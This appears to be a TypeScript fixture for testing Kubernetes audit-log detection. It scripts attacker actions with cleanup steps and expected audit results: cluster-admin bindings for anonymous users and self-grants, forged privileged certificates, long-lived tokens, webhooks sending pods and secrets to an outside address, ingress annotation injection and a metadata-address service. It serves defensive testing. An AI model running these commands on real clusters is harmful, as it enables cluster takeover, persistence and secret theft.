import type { Action } from '../action.ts'

/** Shell that makes a certificate request of a subject and signer; `csr NAME SUBJECT SIGNER`. */
const CSR = `csr() { openssl req -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout /dev/null -out csr.pem -subj "$2" 2>/dev/null
      printf '{"apiVersion":"certificates.k8s.io/v1","kind":"CertificateSigningRequest","metadata":{"name":"%s"},"spec":{"signerName":"%s","usages":["client auth","digital signature"],"request":"%s"}}' $1 $3 $(base64 -w0 < csr.pem) | kubectl create -f -; rm csr.pem; }`

/** A70–A80: who may do what. */
const ROLES: readonly Action[] = [
  {
    code: 'A70',
    name: 'cluster-admin',
    does: 'Bindings to cluster-admin and admin: of a user, a service account, a group, and by a patch of an old binding',
    actor: 'mallory',
    before: 'kubectl -n payments create rolebinding readers --clusterrole view --user bob',
    run: `kubectl create clusterrolebinding helper --clusterrole cluster-admin --user trudy@example.com
      kubectl create clusterrolebinding helper-sa --clusterrole cluster-admin --serviceaccount payments:operator
      kubectl -n payments create rolebinding admins --clusterrole admin --group contractors
      kubectl patch clusterrolebinding helper --type json -p '[{"op":"add","path":"/subjects/-","value":{"kind":"User","name":"carol","apiGroup":"rbac.authorization.k8s.io"}}]'
      kubectl -n payments patch rolebinding readers -p '{"subjects":[{"kind":"User","name":"carol","apiGroup":"rbac.authorization.k8s.io"}]}'`,
    after: 'kubectl delete clusterrolebinding helper helper-sa; kubectl -n payments delete rolebinding admins readers',
    holds: [
      'create clusterrolebindings 201',
      'create rolebindings 201',
      'patch clusterrolebindings 200',
      'patch rolebindings 200'
    ]
  },
  {
    code: 'A71',
    name: 'everybody',
    does: 'Bindings for system:anonymous, system:unauthenticated and system:authenticated',
    actor: 'mallory',
    run: `kubectl create clusterrolebinding open1 --clusterrole view --user system:anonymous; kubectl create clusterrolebinding open2 --clusterrole cluster-admin --group system:unauthenticated
      kubectl -n shop create rolebinding open3 --clusterrole edit --group system:authenticated`,
    after: 'kubectl delete clusterrolebinding open1 open2; kubectl -n shop delete rolebinding open3',
    holds: ['create clusterrolebindings 201', 'create rolebindings 201']
  },
  {
    code: 'A72',
    name: 'default-account',
    does: 'Bindings for default service accounts',
    actor: 'mallory',
    run: 'kubectl create clusterrolebinding d1 --clusterrole cluster-admin --serviceaccount default:default; kubectl -n payments create rolebinding d2 --clusterrole edit --serviceaccount payments:default',
    after: 'kubectl delete clusterrolebinding d1; kubectl -n payments delete rolebinding d2',
    holds: ['create clusterrolebindings 201', 'create rolebindings 201']
  },
  {
    code: 'A73',
    name: 'self-grant',
    does: 'A user binds a role to itself, a service account to itself',
    actor: 'mallory',
    run: 'kubectl create clusterrolebinding me --clusterrole system:node --user mallory; kubectl -n payments create rolebinding me --clusterrole admin --user mallory',
    after: 'kubectl delete clusterrolebinding me; kubectl -n payments delete rolebinding me',
    holds: ['create clusterrolebindings 201', 'create rolebindings 201']
  },
  {
    code: 'A73',
    name: 'service-account-self-grant',
    does: 'A service account binds a role to itself with curl',
    actor: 'web',
    run: `call /apis/rbac.authorization.k8s.io/v1/clusterrolebindings -H 'Content-Type: application/json' -d '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRoleBinding","metadata":{"name":"self"},"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"cluster-admin"},"subjects":[{"kind":"ServiceAccount","name":"web","namespace":"shop"}]}'`,
    after: 'kubectl delete clusterrolebinding self',
    holds: ['create clusterrolebindings 201']
  },
  {
    code: 'A73',
    name: 'escalation-refused',
    does: 'A binding and a role beyond one’s own rights are refused: the API server’s own guard against escalation',
    actor: 'eve',
    before: `kubectl create clusterrole rbac-writer --verb create,update,patch --resource roles,rolebindings,clusterroles,clusterrolebindings; kubectl create clusterrolebinding rbac-writer --clusterrole rbac-writer --user eve`,
    run: 'kubectl create clusterrolebinding me --clusterrole cluster-admin --user eve; kubectl -n shop create role r --verb get --resource secrets; kubectl -n shop create rolebinding b --clusterrole edit --user eve',
    after: 'kubectl delete clusterrolebinding rbac-writer; kubectl delete clusterrole rbac-writer',
    holds: ['create clusterrolebindings 403', 'create roles 403', 'create rolebindings 403']
  },
  {
    code: 'A74',
    name: 'wildcard-role',
    does: 'Roles with wildcards: created, patched into, applied on the server',
    actor: 'mallory',
    run: `kubectl create clusterrole all --verb '*' --resource '*.*'; kubectl -n shop create role some --verb get --resource pods
      kubectl -n shop patch role some --type json -p '[{"op":"replace","path":"/rules/0/verbs","value":["*"]}]'
      printf '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"Role","metadata":{"name":"wide","namespace":"shop"},"rules":[{"apiGroups":["*"],"resources":["*"],"verbs":["get","create"]}]}' | kubectl apply --server-side -f -`,
    after: 'kubectl delete clusterrole all; kubectl -n shop delete role some wide',
    holds: ['create clusterroles 201', 'create roles 201', 'patch roles 200', 'patch roles 201']
  },
  {
    code: 'A75',
    name: 'escalate-bind-impersonate',
    does: 'Roles with the verbs escalate, bind and impersonate',
    actor: 'mallory',
    run: `kubectl create clusterrole e1 --verb escalate,bind --resource clusterroles; kubectl create clusterrole e2 --verb impersonate --resource users,groups,serviceaccounts; kubectl -n shop create role e3 --verb impersonate --resource serviceaccounts`,
    after: 'kubectl delete clusterrole e1 e2; kubectl -n shop delete role e3',
    holds: ['create clusterroles 201', 'create roles 201']
  },
  {
    code: 'A76',
    name: 'takeover-roles',
    does: 'Roles that let their holder take over: exec, pods, tokens, secrets, nodes/proxy, approvals, webhooks, volumes, ephemeral containers',
    actor: 'mallory',
    run: `i=0; while read -r verbs what; do i=$((i+1)); kubectl create clusterrole take-$i --verb $verbs --resource $what; done <<K
create pods/exec
create pods
create serviceaccounts/token
get,list secrets
get nodes/proxy
update certificatesigningrequests/approval
create,patch mutatingwebhookconfigurations
create persistentvolumes
patch pods/ephemeralcontainers
create daemonsets
K`,
    after: 'for i in 1 2 3 4 5 6 7 8 9 10; do kubectl delete clusterrole take-$i; done',
    holds: ['create clusterroles 201']
  },
  {
    code: 'A77',
    name: 'system-role',
    does: 'A system role is changed, one deleted and a system binding patched',
    actor: 'mallory',
    before: `for k in clusterrole clusterrolebinding; do for n in system:discovery system:monitoring system:public-info-viewer; do
      kubectl get $k $n -o yaml 2>/dev/null | sed '/resourceVersion:/d; /uid:/d; /creationTimestamp:/d'; echo ---; done; done > system.yaml`,
    run: `kubectl patch clusterrole system:discovery --type json -p '[{"op":"add","path":"/rules/-","value":{"apiGroups":[""],"resources":["secrets"],"verbs":["get"]}}]'
      kubectl delete clusterrole system:monitoring
      kubectl patch clusterrolebinding system:public-info-viewer --type json -p '[{"op":"replace","path":"/roleRef/name","value":"cluster-admin"}]'
      kubectl patch clusterrolebinding system:discovery --type json -p '[{"op":"add","path":"/subjects/-","value":{"apiGroup":"rbac.authorization.k8s.io","kind":"Group","name":"system:unauthenticated"}}]'`,
    after: 'kubectl apply --server-side --force-conflicts -f system.yaml; rm -f system.yaml',
    holds: [
      'patch clusterroles 200',
      'delete clusterroles 200',
      'patch clusterrolebindings 422',
      'patch clusterrolebindings 200'
    ]
  },
  {
    code: 'A78',
    name: 'aggregated-role',
    does: 'Cluster roles that the API server adds to view and edit, and what the controller makes of it',
    actor: 'mallory',
    run: `printf '{"apiVersion":"rbac.authorization.k8s.io/v1","kind":"ClusterRole","metadata":{"name":"extra-view","labels":{"rbac.authorization.k8s.io/aggregate-to-view":"true","rbac.authorization.k8s.io/aggregate-to-edit":"true"}},"rules":[{"apiGroups":[""],"resources":["secrets","pods/exec"],"verbs":["get","create"]}]}' | kubectl create -f -`,
    also: ({ user, objectRef }) =>
      user?.username === 'system:serviceaccount:kube-system:clusterrole-aggregation-controller' &&
      objectRef?.resource === 'clusterroles',
    settle_s: 1,
    after: 'kubectl delete clusterrole extra-view',
    holds: ['create clusterroles 201', 'patch clusterroles 200']
  },
  {
    code: 'A79',
    name: 'controller-role',
    does: 'Roles of controllers are bound to others',
    actor: 'mallory',
    run: 'kubectl create clusterrolebinding c1 --clusterrole system:controller:clusterrole-aggregation-controller --serviceaccount payments:operator; kubectl create clusterrolebinding c2 --clusterrole system:controller:generic-garbage-collector --user carol',
    after: 'kubectl delete clusterrolebinding c1 c2',
    holds: ['create clusterrolebindings 201']
  },
  {
    code: 'A80',
    name: 'service-account-writes-roles',
    does: 'A service account that is none of the known writers makes a role and a binding and deletes them',
    actor: 'web',
    place: 'runner',
    run: 'kubectl -n shop create role reader --verb get,list --resource pods; kubectl -n shop create rolebinding reader --role reader --user carol; kubectl -n shop delete rolebinding reader; kubectl -n shop delete role reader',
    holds: ['create roles 201', 'create rolebindings 201', 'delete rolebindings 200', 'delete roles 200']
  }
]

/** A81–A99: credentials, and what makes a foothold last. */
const PERSISTENCE: readonly Action[] = [
  {
    code: 'A81',
    name: 'aws-auth',
    does: 'The ConfigMap that maps cloud identities to groups is patched',
    actor: 'mallory',
    run: `kubectl -n kube-system patch configmap aws-auth -p '{"data":{"mapUsers":"- userarn: arn:aws:iam::111122223333:user/x\\n  username: x\\n  groups: [system:masters]\\n"}}'`,
    after: `kubectl -n kube-system patch configmap aws-auth -p '{"data":{"mapUsers":"[]"}}'`,
    holds: ['patch configmaps 200']
  },
  {
    code: 'A82',
    name: 'client-certificate',
    does: 'A client certificate is asked for, of an ordinary name',
    actor: 'mallory',
    run: `${CSR}; csr carol /O=developers/CN=carol kubernetes.io/kube-apiserver-client`,
    after: 'kubectl delete csr carol',
    holds: ['create certificatesigningrequests 201']
  },
  {
    code: 'A83',
    name: 'privileged-certificate',
    does: 'Certificates are asked for in the names of system:masters, a controller and a node',
    actor: 'mallory',
    run: `${CSR}; csr masters /O=system:masters/CN=admin kubernetes.io/kube-apiserver-client; csr kcm /CN=system:kube-controller-manager kubernetes.io/kube-apiserver-client; csr node /O=system:nodes/CN=system:node:node1 kubernetes.io/kube-apiserver-client-kubelet`,
    after: 'kubectl delete csr kcm node masters --ignore-not-found',
    holds: ['create certificatesigningrequests 403', 'create certificatesigningrequests 201']
  },
  {
    code: 'A84',
    name: 'approved-by-requester',
    does: 'Who asked for a certificate approves it and fetches it',
    actor: 'mallory',
    run: `${CSR}; csr carol /CN=system:kube-scheduler kubernetes.io/kube-apiserver-client; kubectl certificate approve carol; sleep 1; kubectl get csr carol -o name`,
    also: ({ user, verb, objectRef }) =>
      verb !== 'get' &&
      user?.username === 'system:serviceaccount:kube-system:certificate-controller' &&
      objectRef?.resource === 'certificatesigningrequests',
    after: 'kubectl delete csr carol',
    holds: ['create certificatesigningrequests 201', 'update certificatesigningrequests/approval 200']
  },
  {
    code: 'A85',
    name: 'request-deleted',
    does: 'A request is denied, one deleted, and an approval refused',
    actor: 'mallory',
    run: `${CSR}; csr carol /CN=carol kubernetes.io/kube-apiserver-client; kubectl certificate deny carol; kubectl delete csr carol; csr dave /CN=dave kubernetes.io/kube-apiserver-client
      kubectl certificate approve dave --as eve; call /apis/certificates.k8s.io/v1/certificatesigningrequests/dave/approval -X PATCH -H 'Impersonate-User: eve' -H 'Content-Type: application/merge-patch+json' -d '{"status":{"conditions":[{"type":"Approved","status":"True"}]}}'`,
    after: 'kubectl delete csr dave',
    holds: [
      'update certificatesigningrequests/approval 200',
      'delete certificatesigningrequests 200',
      'patch certificatesigningrequests/approval 403'
    ]
  },
  {
    code: 'A86',
    name: 'token-request',
    does: 'Tokens of service accounts are made: another namespace’s, kube-system’s, a long one, and one that is refused',
    actor: 'mallory',
    run: `kubectl -n payments create token operator >/dev/null; kubectl -n kube-system create token clusterrole-aggregation-controller --duration 8760h >/dev/null; call /api/v1/namespaces/shop/serviceaccounts/web/token -H 'Content-Type: application/json' -d '{"apiVersion":"authentication.k8s.io/v1","kind":"TokenRequest","spec":{"expirationSeconds":604800}}' >/dev/null
      kubectl -n shop create token web --as eve`,
    holds: ['create serviceaccounts/token 201', 'create serviceaccounts/token 403']
  },
  {
    code: 'A87',
    name: 'token-secret',
    does: 'A Secret of type service-account-token is made, which the controller fills with a token that never ends',
    actor: 'mallory',
    run: `printf '{"apiVersion":"v1","kind":"Secret","type":"kubernetes.io/service-account-token","metadata":{"name":"operator-token","namespace":"payments","annotations":{"kubernetes.io/service-account.name":"operator"}}}' | kubectl create -f -
      sleep 1; kubectl -n payments get secret operator-token -o name`,
    also: ({ user, verb, objectRef }) =>
      verb === 'update' && user?.username === 'system:kube-controller-manager' && objectRef?.resource === 'secrets',
    after: 'kubectl -n payments delete secret operator-token',
    holds: ['create secrets 201', 'get secrets 200']
  },
  {
    code: 'A88',
    name: 'service-account',
    does: 'Service accounts are made, one of them in kube-system',
    actor: 'mallory',
    run: 'kubectl -n shop create serviceaccount helper; kubectl -n kube-system create serviceaccount resource-controller',
    after:
      'kubectl -n shop delete serviceaccount helper; kubectl -n kube-system delete serviceaccount resource-controller',
    holds: ['create serviceaccounts 201']
  },
  {
    code: 'A89',
    name: 'webhook',
    does: 'A mutating webhook outside the cluster for pods and secrets, changed and deleted; a validating one whose failure policy is weakened',
    actor: 'mallory',
    run: `webhook() { printf '{"apiVersion":"admissionregistration.k8s.io/v1","kind":"%s","metadata":{"name":"%s"},"webhooks":[{"name":"inject.example.com","sideEffects":"None","admissionReviewVersions":["v1"],"failurePolicy":"%s","timeoutSeconds":1,"clientConfig":{"url":"https://203.0.113.66/mutate"},"namespaceSelector":{"matchLabels":{"nothing":"here"}},"rules":[{"apiGroups":[""],"apiVersions":["v1"],"operations":["CREATE"],"resources":["pods","secrets"]}]}]}' "$@" | kubectl apply -f -; }
      webhook MutatingWebhookConfiguration injector Ignore; webhook ValidatingWebhookConfiguration gate Fail; webhook ValidatingWebhookConfiguration gate Ignore
      kubectl patch mutatingwebhookconfiguration injector --type json -p '[{"op":"replace","path":"/webhooks/0/clientConfig/url","value":"https://203.0.113.66/other"}]'
      kubectl delete mutatingwebhookconfiguration injector; kubectl delete validatingwebhookconfiguration gate`,
    holds: [
      'create mutatingwebhookconfigurations 201',
      'patch mutatingwebhookconfigurations 200',
      'patch validatingwebhookconfigurations 200',
      'delete validatingwebhookconfigurations 200'
    ]
  },
  {
    code: 'A90',
    name: 'admission-policy',
    does: 'A binding of an admission policy is changed from Deny to Warn, then binding and policy are deleted',
    actor: 'mallory',
    before: `kubectl apply -f - <<K
{"apiVersion":"v1","kind":"List","items":[
 {"apiVersion":"admissionregistration.k8s.io/v1","kind":"ValidatingAdmissionPolicy","metadata":{"name":"no-host"},"spec":{"failurePolicy":"Ignore","matchConstraints":{"resourceRules":[{"apiGroups":["apps"],"apiVersions":["v1"],"operations":["CREATE"],"resources":["statefulsets"]}]},"validations":[{"expression":"object.spec.replicas < 50"}]}},
 {"apiVersion":"admissionregistration.k8s.io/v1","kind":"ValidatingAdmissionPolicyBinding","metadata":{"name":"no-host"},"spec":{"policyName":"no-host","validationActions":["Deny"]}}]}
K`,
    run: `kubectl patch validatingadmissionpolicybinding no-host --type merge -p '{"spec":{"validationActions":["Warn"]}}'; kubectl delete validatingadmissionpolicybinding no-host; kubectl delete validatingadmissionpolicy no-host`,
    holds: [
      'patch validatingadmissionpolicybindings 200',
      'delete validatingadmissionpolicybindings 200',
      'delete validatingadmissionpolicies 200'
    ]
  },
  {
    code: 'A91',
    name: 'aggregated-api',
    does: 'An APIService is pointed at a service of another namespace; a CRD gets a conversion webhook outside the cluster',
    actor: 'mallory',
    run: `printf '{"apiVersion":"apiregistration.k8s.io/v1","kind":"APIService","metadata":{"name":"v1beta1.metrics.k8s.io"},"spec":{"group":"metrics.k8s.io","version":"v1beta1","groupPriorityMinimum":100,"versionPriority":100,"insecureSkipTLSVerify":true,"service":{"name":"web","namespace":"shop"}}}' | kubectl create -f -
      kubectl delete apiservice v1beta1.metrics.k8s.io
      printf '{"apiVersion":"apiextensions.k8s.io/v1","kind":"CustomResourceDefinition","metadata":{"name":"things.example.com"},"spec":{"group":"example.com","scope":"Namespaced","names":{"plural":"things","kind":"Thing"},"conversion":{"strategy":"Webhook","webhook":{"conversionReviewVersions":["v1"],"clientConfig":{"url":"https://203.0.113.66/convert"}}},"preserveUnknownFields":false,"versions":[{"name":"v1","served":true,"storage":true,"schema":{"openAPIV3Schema":{"type":"object"}}}]}}' | kubectl create -f -`,
    after: 'kubectl delete crd things.example.com; kubectl delete apiservice v1beta1.metrics.k8s.io --ignore-not-found',
    holds: ['create apiservices 201', 'delete apiservices 200', 'create customresourcedefinitions 201']
  },
  {
    code: 'A92',
    name: 'node-created',
    does: 'A node is created by a person',
    actor: 'mallory',
    run: `printf '{"apiVersion":"v1","kind":"Node","metadata":{"name":"worker-x","labels":{"node-role.kubernetes.io/worker":""}},"spec":{"providerID":"aws:///eu-west-1a/i-0123456789abcdef0"}}' | kubectl create -f -`,
    after: 'kubectl delete node worker-x',
    holds: ['create nodes 201']
  },
  {
    code: 'A93',
    name: 'service-exposed',
    does: 'Services of type NodePort and LoadBalancer: created, and patched from ClusterIP',
    actor: 'mallory',
    run: `kubectl -n shop expose deployment web --name web-node --type NodePort --port 8080; kubectl -n shop create service loadbalancer web-lb --tcp 80:8080; kubectl -n shop patch service web -p '{"spec":{"type":"NodePort"}}'`,
    after: `kubectl -n shop delete service web-node web-lb; kubectl -n shop patch service web -p '{"spec":{"type":"ClusterIP"}}'`,
    holds: ['create services 201', 'patch services 200']
  },
  {
    code: 'A94',
    name: 'sensitive-exposed',
    does: 'A dashboard, redis and etcd are exposed by services and an ingress',
    actor: 'mallory',
    run: `kubectl -n shop create service loadbalancer kubernetes-dashboard --tcp 443:8443; kubectl -n shop create service nodeport redis --tcp 6379:6379; kubectl -n kube-system create service loadbalancer etcd --tcp 2379:2379
      kubectl -n shop create ingress argo --rule 'argo.example.com/*=argo-server:2746'`,
    after:
      'kubectl -n shop delete service kubernetes-dashboard redis; kubectl -n kube-system delete service etcd; kubectl -n shop delete ingress argo',
    holds: ['create services 201', 'create ingresses 201']
  },
  {
    code: 'A95',
    name: 'external-ips',
    does: 'A service takes an external IP, and the status of another is given a load balancer’s address',
    actor: 'mallory',
    run: `kubectl -n shop create service clusterip grab --tcp 443:8443; kubectl -n shop patch service grab -p '{"spec":{"externalIPs":["203.0.113.80"]}}'
      kubectl -n shop create service loadbalancer grab-lb --tcp 443:8443; kubectl -n shop patch service grab-lb --subresource status -p '{"status":{"loadBalancer":{"ingress":[{"ip":"203.0.113.81"}]}}}'`,
    after: 'kubectl -n shop delete service grab grab-lb',
    holds: ['patch services 200', 'patch services/status 200']
  },
  {
    code: 'A96',
    name: 'traffic-redirected',
    does: 'Endpoints and EndpointSlices of a service and the address of a pod are rewritten by a person',
    actor: 'mallory',
    before:
      'kubectl -n shop create service clusterip payee --tcp 80:80; kubectl -n shop patch service payee --type json -p \'[{"op":"remove","path":"/spec/selector"}]\'; kubectl -n shop delete endpoints payee',
    run: `printf '{"apiVersion":"v1","kind":"Endpoints","metadata":{"name":"payee","namespace":"shop"},"subsets":[{"addresses":[{"ip":"203.0.113.66"}],"ports":[{"port":80}]}]}' | kubectl create -f -
      kubectl -n shop patch endpoints payee -p '{"subsets":[{"addresses":[{"ip":"203.0.113.67"}],"ports":[{"port":80}]}]}'
      slice=$(kubectl -n shop get endpointslices -l kubernetes.io/service-name=web -o name | head -1); kubectl -n shop patch $slice --type json -p '[{"op":"replace","path":"/endpoints/0/addresses","value":["10.244.0.200"]}]'
      kubectl -n payments patch pod db-0 --subresource status --type merge -p '{"status":{"podIPs":[{"ip":"10.244.0.201"}],"podIP":"10.244.0.201"}}'`,
    after: 'kubectl -n shop delete service payee; kubectl -n shop delete endpoints payee --ignore-not-found',
    holds: ['create endpoints 201', 'patch endpoints 200', 'patch endpointslices 200', 'patch pods/status 200']
  },
  {
    code: 'A97',
    name: 'ingress',
    does: 'Ingresses: one without TLS, one with a server snippet in its annotations, and an ExternalName service for the metadata address',
    actor: 'mallory',
    run: `kubectl -n shop create ingress plain --rule 'shop.example.com/*=web:80'
      kubectl -n shop create ingress snippet --rule 'shop.example.com/x*=web:80' --annotation "nginx.ingress.kubernetes.io/configuration-snippet=lua_need_request_body on;" --annotation "nginx.ingress.kubernetes.io/auth-url=http://a/#;load_module x;"
      kubectl -n shop create service externalname meta --external-name 169.254.169.254`,
    after: 'kubectl -n shop delete ingress plain snippet; kubectl -n shop delete service meta --ignore-not-found',
    holds: ['create ingresses 201']
  }
]

/** A70–A97. */
export const RIGHTS_ACTIONS: readonly Action[] = [...ROLES, ...PERSISTENCE]
